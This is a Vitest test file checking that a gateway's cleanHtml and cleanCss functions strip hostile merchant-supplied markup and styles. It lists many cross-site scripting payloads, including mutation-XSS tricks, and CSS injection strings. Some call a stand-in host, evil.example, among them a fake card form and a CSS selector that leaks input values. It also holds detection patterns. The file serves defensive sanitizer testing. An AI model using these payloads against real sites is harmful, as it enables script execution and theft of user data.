import { describe, expect, it } from 'vitest'
import { cleanCss } from '#gateway/stores/clean-css.ts'
import { cleanHtml } from '#gateway/stores/clean-html.ts'

const hostileHtml = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0;font-size:900px">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<template><script>alert(1)</script></template>',
  '<isindex action=javascript:alert(1) type=image>',
  '<a href="//evil.example">x</a><img src="//evil.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<p><a href="https://ok.example" onclick="alert(1)" target="_top">x</a></p>',
]

describe('HTML of a merchant', () => {
  it.each(hostileHtml)('cannot run, load or leave its place: %s', (html) => {
    const clean = cleanHtml(html).replaceAll(/ title="[^"]*"/g, '')
    expect(clean).not.toMatch(
      /<(script|iframe|object|embed|form|input|button|base|meta|link|style|svg|math|video|audio|template|textarea)/i,
    )
    expect(clean).not.toMatch(/\son\w+\s*=|javascript:|vbscript:|data:|url\(|expression|position|behavior|srcdoc/i)
    expect(clean).not.toMatch(/(src|href)="\/\//)
  })

  it('keeps what a letter needs: headings, lists, tables, sizes, colours, links, pictures', () => {
    const html =
      '<h2>Bok</h2><ul><li><strong>a</strong></li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><p style="font-size:x-large;color:#336699">y</p><img src="https://shop.example/a.png" alt="Logo" />'
    expect(cleanHtml(html)).toBe(html)
  })

  it('reads the seven sizes of the old font element', () => {
    const sizes = [1, 2, 3, 4, 5, 6, 7].map(
      (size) => /font-size:([\w-]+)/.exec(cleanHtml(`<font size=${size}>a</font>`))?.[1],
    )
    expect(sizes).toEqual(['xx-small', 'x-small', 'small', 'medium', 'large', 'x-large', 'xx-large'])
  })

  it('keeps a placeholder that stands for an address · STS-41', () => {
    expect(cleanHtml('<a href="$LINK_VALUE">Plati</a>')).toContain('href="$LINK_VALUE"')
  })

  it('is the same when it is cleaned twice', () => {
    for (const html of hostileHtml) expect(cleanHtml(cleanHtml(html))).toBe(cleanHtml(html))
  })
})

const hostileCss = [
  '@import url("https://evil.example/x.css");',
  '@import "https://evil.example/x.css";',
  'body{background:url(https://evil.example/x)}',
  "body{background-image:URL('//evil.example')}",
  'body{background:u\\72l(https://evil.example)}',
  'a{background:image-set("https://evil.example/a.png" 1x)}',
  'a{background:-webkit-image-set(url(x) 1x)}',
  '@font-face{font-family:x;src:url(https://evil.example/x.woff)}',
  'p{position:fixed;inset:0}',
  'p{POSITION:absolute}',
  'a{behavior:url(x.htc)}',
  'a{-moz-binding:url(x.xml#x)}',
  'a{width:expression(alert(1))}',
  'input[value^="4"]{background:url(https://evil.example/?4)}',
  ':root{--x:url(https://evil.example)}p{background:var(--x)}',
  '@charset "utf-7"; +ADw-script+AD4-',
  '</style><script>alert(1)</script>',
  'a{content:"</style><script>alert(1)</script>"}',
  '<!-- a{color:red} -->',
  '@namespace url(http://evil.example);',
  '@page{background:url(x)}',
  '@media screen{@import url(x);p{background:url(x);color:red}}',
  'a{cursor:url(https://evil.example/x.cur),auto}',
  'li{list-style:url(https://evil.example/x.png)}',
  'p{filter:url(https://evil.example/x.svg#f)}',
  'a{color:red;background:url(x',
]

describe('CSS of a merchant', () => {
  it.each(hostileCss)('cannot load or leave its frame: %s', (css) => {
    const clean = cleanCss(css)
    expect(clean).not.toMatch(
      /@import|@font-face|@namespace|@charset|url\(|image-set|expression|evil\.example|binding|behavior/i,
    )
    expect(clean).not.toMatch(/position:|<\//i)
  })

  it('keeps what lays out a header', () => {
    expect(cleanCss('h1 { color: #fff; padding: 4px 8px } @media (max-width: 400px) { h1 { font-size: 14px } }')).toBe(
      'h1{color:#fff;padding:4px 8px}@media (max-width:400px){h1{font-size:14px}}',
    )
  })
})
